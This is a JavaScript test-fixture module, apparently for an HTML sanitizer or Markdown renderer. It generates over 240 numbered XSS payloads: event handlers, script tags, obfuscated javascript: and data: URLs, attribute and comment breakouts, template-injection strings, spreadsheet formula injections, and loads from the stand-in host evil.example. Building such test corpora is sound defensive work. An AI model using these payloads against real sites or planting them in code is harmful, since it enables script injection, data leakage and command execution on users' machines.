// Texts that try to become code. Each calls ran("…"), which the test watches, or asks a host that is none.
//
// Written as a table of attempts and of the ways they are spelled, so that 240 and more come of a page of text.

const CALL = 'ran(`!`)';

/** Elements and attributes that run script by themselves. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=//evil.example/a.js></SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script\n>${CALL}</script\n>`,
  `<script/x>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${CALL}">`,
  `<IMG SRC=x ONERROR=${CALL}//`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x\tonerror\n=\n${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href=//evil.example/b.js /></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>a</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${CALL}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=a xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#a"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<math href="javascript:${CALL}">a</math>`,
  `<body onload=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video onloadstart=${CALL} src=x>`,
  `<audio src onerror=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}>`,
  `<button onclick=${CALL} autofocus>a</button>`,
  `<marquee onstart=${CALL}>`,
  `<div onpointerover=${CALL} style="position:fixed;inset:0">a</div>`,
  `<p onmouseover=${CALL}>a</p>`,
  `<a onclick=${CALL} href=#>a</a>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src=//evil.example/></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<form action="javascript:${CALL}"><input type=submit autofocus></form>`,
  `<form id=f></form><button form=f formaction="javascript:${CALL}">a</button>`,
  `<isindex action="javascript:${CALL}" type=image>`,
  `<base href="//evil.example/">`,
  `<base href="javascript:${CALL}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/a.css>`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<link rel=preload as=script href=//evil.example/c.js>`,
  `<style>@import "//evil.example/b.css";</style>`,
  `<style>*{background:url(//evil.example/c.png)}</style>`,
  `<p style="background:url(//evil.example/d.png)">a</p>`,
  `<p style="width:expression(${CALL})">a</p>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<plaintext onload=${CALL}>`,
  `<title><img title="</title><img src=x onerror=${CALL}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${CALL}>">`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--!><img src=x onerror=${CALL}>`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${CALL}>`,
  `<!DOCTYPE a [<!ENTITY b "<script>${CALL}</script>">]>&b;`,
  `<a href="//evil.example/" ping="//evil.example/ping">a</a><img src="//evil.example/e.png">`,
  `<img srcset="//evil.example/f.png 1x" alt=a>`,
  `<picture><source srcset=//evil.example/g.png><img src=x></picture>`,
  `<table background=//evil.example/h.png><tr><td>1</td></tr></table>`,
  `<frameset onload=${CALL}><frame src="javascript:${CALL}"></frameset>`,
];

/** Ways out of an attribute, an element, a comment, a block of script or a template. */
const BREAKS = [
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `" onmouseover="${CALL}" x="`,
  `' onmouseover='${CALL}' x='`,
  `" autofocus onfocus=${CALL} x="`,
  `\`><img src=x onerror=${CALL}>`,
  `--><img src=x onerror=${CALL}>`,
  `--!><img src=x onerror=${CALL}>`,
  `</title><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `</SCRIPT ><svg onload=${CALL}>`,
  `</style><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</desc></svg><img src=x onerror=${CALL}>`,
  `]]><script>${CALL}</script>`,
  `{{ 7 * 7 }}{{ "${CALL}" | safe }}`,
  `{% set a = 1 %}{% include "base.html" %}{% raw %}`,
  `{# ${CALL} #}{{ get_env(name="HOME") }}`,
  `\${${CALL}}#{${CALL}}<%= ${CALL} %>`,
  `\\"});${CALL}//`,
  `";${CALL};//`,
  `\u2028${CALL}\u2029`,
  `<\u0000script>${CALL}</script>`.replaceAll("\u0000", "\u200b"),
  `\u202e<script>${CALL}</script>\u202c`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `＜script＞${CALL}＜/script＞`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `=HYPERLINK("http://evil.example/","a")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];

/** Addresses that act, in every spelling that a browser forgives. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java&#10;script:${CALL}`,
  `java&Tab;script:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A;&#x61;vascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript://evil.example/%0a${CALL}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${CALL}>*/`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>opener.${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
  `blob:http://evil.example/a`,
  `filesystem:http://evil.example/a`,
  `view-source:javascript:${CALL}`,
  `\\\\evil.example\\a`,
  `feed:javascript:${CALL}`,
  `about:srcdoc`,
];

/** Where Markdown takes an address. */
const LINKS = [
  (to) => `[a](${to.replaceAll(/[\s()<>]/g, encodeURIComponent)})`,
  (to) => `[a](<${to.replaceAll(/[<>\n]/g, encodeURIComponent)}>)`,
  (to) => `![a](<${to.replaceAll(/[<>\n]/g, encodeURIComponent)}> "${CALL}")`,
  (to) => `<${to.trim().replaceAll(/[\s<>]/g, encodeURIComponent)}>`,
  (to) => `<a href="${to.replaceAll('"', "&quot;")}">a</a>`,
  (to) => `[a][${to.length}]\n\n[${to.length}]: <${to.replaceAll(/[<>\n]/g, encodeURIComponent)}>`,
];

const MARKDOWN = [
  `[a](x "\\"><img src=x onerror=${CALL}>")`,
  `![\\"><img src=x onerror=${CALL}>](x)`,
  `![a](x 'onerror=${CALL}')`,
  `\`\`\`"><script>${CALL}</script>\na\n\`\`\``,
  `\`<script>${CALL}</script>\``,
  `# <img src=x onerror=${CALL}> {#x onclick=${CALL}}`,
  `[^"><img src=x onerror=${CALL}>]\n\n[^"><img src=x onerror=${CALL}>]: <script>${CALL}</script>`,
  `**<script>${CALL}</script>**`,
  `| <script>${CALL}</script> | 1 |\n|---|---|\n| <img src=x onerror=${CALL}> | 2 |`,
];

/** For the body of a text: all of them. Each says its own number. */
export const body = numbered([
  ...ELEMENTS,
  ...BREAKS,
  ...ADDRESSES.flatMap((to) => LINKS.map((link) => link(to))),
  ...MARKDOWN,
]);

/** For a field, which is one line. */
export const fields = numbered([...ELEMENTS, ...BREAKS, ...ADDRESSES].map((text) => text.replaceAll(/[\n\t]/g, " ")));

function numbered(texts) {
  return texts.map((text, at) => text.replaceAll("`!`", String(at)));
}
